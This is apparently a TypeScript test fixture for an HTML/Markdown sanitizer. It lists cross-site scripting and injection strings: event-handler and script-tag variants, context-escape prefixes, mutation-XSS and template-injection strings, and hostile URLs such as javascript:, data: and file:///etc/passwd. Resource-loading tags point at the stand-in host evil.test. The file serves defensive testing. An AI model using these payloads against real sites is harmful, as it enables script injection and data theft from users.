/**
 * Texts that would run code or send a request elsewhere if a page contained them unescaped. Each calls
 * `__hit`, which the test counts, or requests something from `evil.test`.
 */

/** The call in every text that runs code; tests expose `__hit` to their pages and report its calls. */
const hit = `__hit(1)`;
const evil = 'evil.test';

/** Prefixes that could end the context into which a text is inserted. */
const exits = ['', '">', `'>`, '</code></pre>'];

const handlers = [
  `<img src=x onerror=${hit}>`,
  `<img src="x" onload="${hit}" onerror="${hit}">`,
  `<IMG/SRC=x/ONERROR=${hit}>`,
  `<svg onload=${hit}>`,
  `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${hit}"><text>x</text></a></svg>`,
  `<body onload=${hit} onpageshow=${hit}>`,
  `<video><source onerror=${hit}></video>`,
  `<audio src=x onerror=${hit}>`,
  `<details open ontoggle=${hit}>x</details>`,
  `<input autofocus onfocus=${hit}>`,
  `<select autofocus onfocus=${hit}></select>`,
  `<textarea autofocus onfocus=${hit}></textarea>`,
  `<iframe onload=${hit}></iframe>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<object data=x onerror=${hit}></object>`,
  `<embed src=x onload=${hit}>`,
  `<a href=# onmouseover=${hit} onclick=${hit} onfocus=${hit}>x</a>`,
  `<p onmouseover='${hit}' onclick='${hit}'>x</p>`,
  `<button onclick=${hit} popovertarget=x>x</button>`,
  `<div contenteditable onfocus=${hit} tabindex=1>x</div>`,
  `<style onload=${hit}>*{color:red}</style>`,
  `<x style="animation:spin 1s" onanimationstart=${hit}>x</x>`,
  `<marquee onstart=${hit}>x</marquee>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${hit}">x</maction></math>`,
  `<custom-element onpointerover=${hit} onclick=${hit}>x</custom-element>`,
];

const scripts = [
  `<script>${hit}</script>`,
  `<ScRiPt >${hit}</sCrIpT\t>`,
  `<script\n>${hit}</script>`,
  `<script/x>${hit}</script>`,
  `<script type=module>${hit}</script>`,
  `<script src="data:text/javascript,${hit}"></script>`,
  `<script src=//${evil}/a.js></script>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><style><script>${hit}</script></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit}>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>">`,
  `<template><script>${hit}</script></template>`,
  `<!--><script>${hit}</script>-->`,
  `<!-- --!><script>${hit}</script> -->`,
  `--><script>${hit}</script>`,
  `]]><script>${hit}</script>`,
  `</title><script>${hit}</script>`,
  `</style><script>${hit}</script>`,
  `</textarea><script>${hit}</script>`,
  `</script><script>${hit}</script>`,
  `</template><script>${hit}</script>`,
  `</lectern-tabs></main><script>${hit}</script>`,
  `<scr<script>ipt>${hit}</scr</script>ipt>`,
  `<<script>${hit}//<</script>`,
  `\u003cscript\u003e${hit}\u003c/script\u003e`,
  `&lt;script&gt;${hit}&lt;/script&gt;`,
  `\`\`\`html\n<script>${hit}</script>\n\`\`\``,
  `\`<script>${hit}</script>\``,
  `$$\\href{javascript:${hit}}{x}$$`,
  `{__hit(1)}`,
  '${__hit(1)}',
  `{{constructor.constructor('${hit}')()}}`,
  `<%= ${hit} %>`,
  `import x from 'data:text/javascript,${hit}'`,
  `export const x = ${hit}\n\n<X onClick={() => ${hit}} />`,
];

const calls = [
  `<img src=https://${evil}/a.png>`,
  `<img srcset="//${evil}/a.png 1x">`,
  `<picture><source srcset=//${evil}/a.png><img></picture>`,
  `<video poster=//${evil}/a.png src=//${evil}/a.mp4 autoplay></video>`,
  `<audio src=//${evil}/a.mp3 autoplay></audio>`,
  `<iframe src=https://${evil}/></iframe>`,
  `<object data=https://${evil}/></object>`,
  `<embed src=https://${evil}/>`,
  `<link rel=stylesheet href=//${evil}/a.css>`,
  `<link rel=prefetch href=//${evil}/a>`,
  `<link rel=modulepreload href=//${evil}/a.js>`,
  `<meta http-equiv=refresh content="0;url=https://${evil}/">`,
  `<base href=https://${evil}/>`,
  `<style>@import url(//${evil}/a.css);</style>`,
  `<style>*{background:url(//${evil}/a.png)}</style>`,
  `<p style="background:url(//${evil}/a.png)">x</p>`,
  `<table background=//${evil}/a.png><tr><td background=//${evil}/a.png>x</table>`,
  `<input type=image src=//${evil}/a.png>`,
  `<form action=https://${evil}/><button autofocus>x</button></form>`,
  `<svg><image href=//${evil}/a.png /></svg>`,
  `<svg><use href=//${evil}/a.svg#x /></svg>`,
  `<a href=x ping=https://${evil}/>x</a>`,
  `![x](https://${evil}/a.png)`,
  `![x][y]\n\n[y]: https://${evil}/a.png`,
  `[![x](https://${evil}/a.png)](https://${evil}/)`,
];

/** Addresses that run code or disguise their target. */
export const hostileUrls: readonly string[] = [
  `javascript:${hit}`,
  `JaVaScRiPt:${hit}`,
  ` javascript:${hit}`,
  `\tjavascript:${hit}`,
  `java\nscript:${hit}`,
  `java\tscript:${hit}`,
  `\u0001javascript:${hit}`,
  `javascript&colon;${hit}`,
  `&#106;avascript:${hit}`,
  `java&#10;script:${hit}`,
  `javascript://%0a${hit}`,
  `javascript:/*--></title></style></script>*/${hit}`,
  `vbscript:${hit}`,
  `data:text/html,<script>parent.${hit}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX2hpdCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${hit}"/>`,
  `blob:https://${evil}/x`,
  `file:///etc/passwd`,
  `//${evil}/x`,
  `\\\\${evil}\\x`,
  `/\\${evil}/x`,
  `https:\\\\${evil}`,
  `https://user:secret@${evil}/`,
  `view-source:javascript:${hit}`,
  `"onmouseover="${hit}`,
  `https://${evil}/" onmouseover="${hit}`,
  `https://${evil}/'onfocus='${hit}`,
  `{x}javascript:${hit}`,
];

const links = hostileUrls.flatMap((url) => [
  url,
  `[x](${url})`,
  `[x](<${url}> "${url}")`,
  `<${url}>`,
  `[x]\n\n[x]: ${url}`,
  `<a href="${url}">x</a>`,
]);

/** All hostile texts, without duplicates. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...exits.flatMap((exit) => handlers.map((text) => exit + text)),
    ...scripts,
    ...calls,
    ...links,
  ]),
];
